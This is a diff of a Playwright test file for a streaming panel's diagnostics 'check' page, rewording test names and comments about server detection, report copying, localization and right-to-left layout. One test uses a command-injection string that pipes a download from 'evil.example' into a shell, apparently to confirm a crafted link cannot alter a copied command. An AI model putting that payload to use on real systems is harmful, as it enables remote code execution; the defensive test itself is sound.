@@ -1,4 +1,4 @@
-/** The built page of the check, on the real panel: its most important answers. More are in `test/diagnostics/page/page.nightly.test.ts`. */
+/** The most important results of the built check page on a real panel. `test/diagnostics/page/page.nightly.test.ts` has more. */
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
 import { openBrowser } from '../kit/browser.js';
@@ -9,7 +9,7 @@ import { startShoutcast } from '../kit/servers/shoutcast.js';
 import { openLivePanel, type OpenedPanel } from '../kit/open-panel.js';
 import type { Browser, Page } from 'playwright-core';
 
-describe('the page of the check', () => {
+describe('the check page', () => {
   let browser: Browser;
   let panel: OpenedPanel;
   let website: BrokenServer;
@@ -27,7 +27,7 @@ describe('the page of the check', () => {
 
   const CHECK = () => `${panel.url}/check/`;
 
-  it('takes an address as it is typed, and says what is wrong there', async () => {
+  it('accepts a URL as it is typed, and shows what is wrong', async () => {
     await page.goto(CHECK());
     await page.getByLabel('Address of the panel').fill(website.host);
     await page.keyboard.press('Enter');
@@ -39,7 +39,7 @@ describe('the page of the check', () => {
     assert.match((await page.getByRole('alert').textContent())!, /„ftp:\/\/x“ ist keine Adresse/);
   });
 
-  it('says which other kind of server stands at an address, also where it answers by JSONP alone', async () => {
+  it('detects other kinds of server, also those that allow only JSONP', async () => {
     for (const [starting, kind, cors] of [
       [startIcecast(), 'Icecast', 'OK This page can read its responses.'],
       [startShoutcast(), 'Shoutcast', 'Note Pages of other sites can’t fetch its responses'],
@@ -48,7 +48,7 @@ describe('the page of the check', () => {
       try {
         server.play({ artist: 'Björk', title: 'Jóga' });
         await page.goto(`${CHECK()}?panel=${server.url}/stream.html&site=http`);
-        // Of an http site, the sound alone is wrong: there is none.
+        // On an http site, the only problem is the missing stream.
         assert.equal(await untilChecked(page), `Problems at ${server.url}/stream.html: streams.`);
         const lines = await linesOf(page);
         assert.equal(lines.Server, `OK Found ${kind} at ${server.url}. Onair works with it directly.`);
@@ -62,7 +62,7 @@ describe('the page of the check', () => {
     }
   });
 
-  it('copies the report, which is folded away, and a command that a link can not change', async () => {
+  it("copies the folded report, and a command that a link can't change", async () => {
     const sent = "https://x/;curl$IFS'evil.example'|sh";
     await page.goto(`${CHECK()}?panel=${encodeURIComponent(sent)}`);
     await untilChecked(page);
@@ -75,7 +75,7 @@ describe('the page of the check', () => {
     await copied;
   });
 
-  it('speaks the reader’s language, by one file from beside it, and another one when that is chosen', async () => {
+  it('loads the file of the visitor’s language, and of another one when it is chosen', async () => {
     const french = await browser.newPage({ locale: 'fr-CA' });
     const asked: string[] = [];
     french.on('request', (request) => asked.push(new URL(request.url()).pathname));
@@ -100,7 +100,7 @@ describe('the page of the check', () => {
     await french.close();
   });
 
-  it('runs from right to left in Arabic, but for addresses and what is copied, on the narrowest screen too', async () => {
+  it('runs from right to left in Arabic, except URLs and copied texts, also on the narrowest screen', async () => {
     const arabic = await browser.newPage({ viewport: { width: 280, height: 800 } });
     await arabic.goto(`${CHECK()}?panel=${panel.url}&lang=ar`);
     assert.match(await untilChecked(arabic), /المحتوى المختلط\.$/);
@@ -115,7 +115,7 @@ describe('the page of the check', () => {
     await arabic.close();
   });
 
-  it('is English where a copy has no other words beside it, and says that it is', async () => {
+  it('falls back to English with a message if a copy has no language files', async () => {
     const copy = await browser.newPage({ locale: 'ru-RU' });
     await copy.route('**/parts/*', (route) => route.fulfill({ status: 404 }));
     await copy.goto(CHECK());
@@ -125,7 +125,7 @@ describe('the page of the check', () => {
     await copy.close();
   });
 
-  it('leads from a server that is not there to those that are', async () => {
+  it('lists the existing servers if the number is unknown', async () => {
     await page.goto(`${CHECK()}?panel=${panel.url}&server=99`);
     await untilChecked(page);
     await page.getByRole('link', { name: /^2 / }).click();
